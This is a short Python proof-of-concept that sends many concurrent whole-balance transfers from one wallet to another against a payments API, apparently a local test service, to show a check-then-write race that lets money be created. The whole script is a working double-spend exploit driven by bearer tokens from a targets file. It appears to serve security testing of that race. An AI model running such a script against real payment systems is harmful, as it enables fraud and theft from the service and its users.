"""Shows the race between check and write: N concurrent transfers of a wallet's whole balance. If more than one
succeeds, money was created.

usage: python overdraft_race.py http://127.0.0.1:8201 targets.json [n=64]
"""

import asyncio
import json
import sys
from urllib.parse import urlparse

u, t = urlparse(sys.argv[1]), json.load(open(sys.argv[2]))["users"]
n = int(sys.argv[3]) if len(sys.argv) > 3 else 64
a, b = t[-1], t[-2]


async def call(method, path, token, body=None):
    r, w = await asyncio.open_connection(u.hostname, u.port)
    d = json.dumps(body).encode() if body else b""
    w.write(
        f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(d)}\r\n\r\n".encode()
        + d
    )
    raw = await r.read()
    w.close()
    return int(raw.split()[1]), json.loads(raw.split(b"\r\n\r\n", 1)[1])


async def main():
    _, before = await call("GET", "/wallet/balance", a["token"])
    out = await asyncio.gather(
        *(
            call(
                "POST",
                "/transfers",
                a["token"],
                {
                    "recipient_wallet_id": b["wallet"],
                    "amount": before["balance"],
                    "description": "race",
                    "confirmed": True,
                },
            )
            for _ in range(n)
        )
    )
    _, after = await call("GET", "/wallet/balance", a["token"])
    print(
        f"balance before {before['balance']}, {n} concurrent sends of all of it: "
        f"{sum(s == 200 for s, _ in out)} accepted, balance after {after['balance']}"
    )


asyncio.run(main())
